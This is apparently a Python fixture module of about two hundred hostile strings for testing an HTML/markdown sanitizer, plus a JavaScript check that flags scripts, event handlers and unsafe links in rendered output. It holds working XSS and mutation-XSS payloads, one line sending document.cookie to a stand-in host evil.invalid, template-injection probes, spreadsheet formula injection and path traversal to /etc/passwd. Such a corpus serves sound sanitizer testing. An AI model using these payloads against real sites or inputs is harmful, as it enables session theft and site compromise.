"""Two hundred texts that want to be more than text.

Each tries to set `owned`, to open a dialog, to lead away, to load from evil.invalid, or to break
what shows it. Written for these tests; grouped by what they hope for.
"""

from itertools import chain, product

_RUN = ("owned=1", "alert(1)", "fetch('http://evil.invalid/'+document.cookie)")
_ELEMENTS = (
    "<script>{}</script>",
    "</script><script>{}</script>",
    "<ScRiPt >{}</sCrIpT >",
    "<script/x>{}</script>",
    "<scr<script>ipt>{}</scr</script>ipt>",
    "<img src=x onerror={}>",
    '"><img src=x onerror="{}">',
    "'><img src=x onerror='{}'>",
    "<img/src=x/onerror={}>",
    "<svg onload={}>",
    "<svg/onload={}//",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:{}>",
    "<svg><foreignObject><body onload={}></foreignObject></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror={}>",
    "<body onload={}>",
    "<details open ontoggle={}>",
    "<input autofocus onfocus={}>",
    "<select autofocus onfocus={}>",
    "<textarea autofocus onfocus={}>",
    "<video><source onerror={}></video>",
    "<audio src=x onerror={}>",
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<object data='javascript:{}'></object>",
    "<embed src='javascript:{}'>",
    "<marquee onstart={}>",
    "<x-owned onclick={} style=display:block>here</x-owned>",
    "<a href='javascript:{}'>here</a>",
    "<form action='javascript:{}'><button>here</button></form>",
    "<template><script>{}</script></template>",
    "</title><script>{}</script>",
    "</textarea><script>{}</script>",
    "</style><script>{}</script>",
    "</option></select><script>{}</script>",
    "--><script>{}</script><!--",
    "]]><script>{}</script>",
)
_ATTRIBUTES = (
    '" onmouseover="owned=1" x="',
    "' onmouseover='owned=1' x='",
    '" autofocus onfocus="owned=1',
    "` onmouseover=owned=1 x=`",
    '" style="position:fixed;inset:0" onclick="owned=1',
    '"accesskey="x"onclick="owned=1',
    '" data-hx-get="/auth/logout" data-hx-trigger="load" x="',
    '" hx-on:load="owned=1" data-hx-on:load="owned=1" x="',
    '" data-copy="owned',
    '" data-opens="main',
    "&quot; onmouseover=&quot;owned=1",
    "&#34; onmouseover=&#34;owned=1",
    "&lt;script&gt;owned=1&lt;/script&gt;",
    "&amp;lt;script&amp;gt;owned=1",
)
_ADDRESSES = (
    "javascript:owned=1",
    "JaVaScRiPt:owned=1",
    " javascript:owned=1",
    "java\tscript:owned=1",
    "java\nscript:owned=1",
    "\x01javascript:owned=1",
    "javascript&colon;owned=1",
    "vbscript:owned",
    "data:text/html,<script>owned=1</script>",
    "data:text/html;base64,PHNjcmlwdD5vd25lZD0xPC9zY3JpcHQ+",
    "data:image/svg+xml,<svg onload='owned=1' xmlns='http://www.w3.org/2000/svg'/>",
    "//evil.invalid/",
    "/\\evil.invalid/",
    "https:evil.invalid",
    "http://evil.invalid/?%0d%0aset-cookie:owned=1",
    "blob:http://evil.invalid/1",
    "file:///etc/passwd",
    "https://user:password@evil.invalid/",
)
_MARKDOWN = (
    "[here](javascript:owned=1)",
    "[here](java&#115;cript:owned=1)",
    "[here](<javascript:owned=1>)",
    "[here][1]\n\n[1]: javascript:owned=1",
    "![x](http://evil.invalid/x.png)",
    "![x](x){onerror=owned=1}",
    '![x"onerror="owned=1](x)',
    "<javascript:owned=1>",
    "[x](data:text/html,<script>owned=1</script>)",
    "```<script>owned=1</script>```",
    "`<img src=x onerror=owned=1>`",
    "| <img src=x onerror=owned=1> |\n| --- |\n| x |",
    "<!--><script>owned=1</script>-->",
    "<?php echo 1 ?><script>owned=1</script>",
    "<![CDATA[<script>owned=1</script>]]>",
    '[x](https://x.invalid "onclick=owned=1")',
    '[a](https://x.invalid/" onmouseover="owned=1)',
    "# <svg onload=owned=1>",
)
_MUTATING = (
    "<noscript><p title='</noscript><img src=x onerror=owned=1>'>",
    "<svg></p><style><a id='</style><img src=1 onerror=owned=1>'>",
    (
        "<math><mi><table><mglyph><style><!--</style>"
        "<img title='--&gt;&lt;img src onerror=owned=1&gt;'>"
    ),
    (
        "<form><math><mtext></form><form><mglyph><svg><mtext><style>"
        "<path id='</style><img onerror=owned=1 src>'>"
    ),
    "<p id='</p><img src=x onerror=owned=1>'>",
    "<xmp><p title='</xmp><img src=x onerror=owned=1>'>",
    "<title><a title='</title><img src=x onerror=owned=1>'>",
    "<table><td><script>owned=1</script>",
    "<b <script>owned=1//</script>0</script></b>",
    "<<script>owned=1//<</script>",
    "<%00script>owned=1</script>",
    "<img src='x' onerror\n=\n'owned=1'>",
    "<img src=x onerror=&#111;&#119;&#110;&#101;&#100;=1>",
    "\u2028<script>owned=1</script>\u2029",
    "<\u017fcript>owned=1</\u017fcript>",
    "\uff1cscript\uff1eowned=1\uff1c/script\uff1e",
    "+ADw-script+AD4-owned=1+ADw-/script+AD4-",
)
_TEMPLATES = (
    "{{7*7}}",
    "{{ config }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% for one in () %}{% endfor %}",
    "{# gone #}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "%s%s%s%n",
    "%(name)s",
    "{0.__class__}",
    "{name!r:>{width}}",
    "$(id)",
    "`id`",
    "{{constructor.constructor('owned=1')()}}",
)
_STYLES = (
    "<style>*{display:none}</style>",
    "<style>@import 'http://evil.invalid/x.css';</style>",
    "<link rel=stylesheet href=http://evil.invalid/x.css>",
    "<div style='background:url(http://evil.invalid/x)'>",
    "</style><style>body{display:none}",
    "expression(owned=1)",
    "<meta http-equiv=refresh content='0;url=http://evil.invalid/'>",
    "<base href=http://evil.invalid/>",
    "<img src=http://evil.invalid/x.png>",
    "<img srcset='http://evil.invalid/x.png 1x'>",
    "<input type=image src=http://evil.invalid/x.png>",
    "<table background=http://evil.invalid/x.png>",
)
_CHARACTERS = (
    "\u202egnp.exe",
    "\u2066admin\u2069 (you)",
    "a\u200bb\u200cc\u200dd\ufeff",
    "\u0000owned",
    "a\x08\x08\x08b\x1b[31mred\x1b[0m",
    "a\r\nset-cookie: owned=1",
    "\ud7ff\ue000\U0010ffff",
    "e" + "\u0301" * 60,
    "\u0626\u0644\u0639\u0631\u0628\u064a\u0629",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "x" * 500,
    "__proto__",
    "constructor.prototype.owned=1",
    "toString",
    "\\u003cscript\\u003eowned=1\\u003c/script\\u003e",
    "\\x3cscript\\x3eowned=1",
    '{"owned": "</script>"}',
    "'; owned=1; '",
    '"; owned=1; "',
    "\\'; owned=1; //",
    "`; owned=1; `",
    "1;owned=1",
    "../../../etc/passwd",
    "..%2f..%2fetc%2fpasswd",
    "%3Cscript%3Eowned=1%3C/script%3E",
    "%253Cscript%253Eowned=1%253C/script%253E",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "@SUM(1+1)",
    "<owned>",
    "&owned;",
    "&#x110000;",
    "</main></body></html><script>owned=1</script>",
)

TEXTS: tuple[str, ...] = tuple(
    dict.fromkeys(
        chain(
            (one.format(run) for one, run in product(_ELEMENTS, _RUN[:2])),
            (one.format(_RUN[2]) for one in _ELEMENTS[:8]),
            *(_ATTRIBUTES, _ADDRESSES, _MARKDOWN, _MUTATING, _TEMPLATES, _STYLES, _CHARACTERS),
        )
    )
)

# What a page has that a text has made: nothing that runs, loads, styles or leads elsewhere.
FOUND = r"""
() => {
  const wrong = [];
  if (window.owned !== undefined) wrong.push("a script has run");
  const never = "script,iframe,frame,img,object,embed,math,base,link,style,video,audio,source," +
    "template,marquee,meta,foreignObject,animate,set,mglyph,x-owned,owned,xmp,noscript,body body";
  const inside = document.body.querySelectorAll(never);
  for (const one of inside) {
    if (one.matches("noscript") && one.closest("form")) continue;
    wrong.push("element " + one.outerHTML.slice(0, 120));
  }
  for (const one of document.querySelectorAll("*")) {
    for (const attribute of one.attributes) {
      const name = attribute.name, value = attribute.value.trim();
      if (/^on|^(data-)?hx-on|^srcdoc$|^style$|^background$|^srcset$/.test(name)) {
        wrong.push("attribute " + name + " of " + one.outerHTML.slice(0, 120));
      }
      const leads = /^(href|src|action|formaction|xlink:href|(data-)?hx-(get|post))$/.test(name);
      const known = /^(https?:\/\/|mailto:|[?#]|\/(?![\/\\])|$)/.test(value);
      if (leads && !known) {
        wrong.push("address " + name + "=" + value.slice(0, 120));
      }
    }
  }
  return wrong;
}
"""
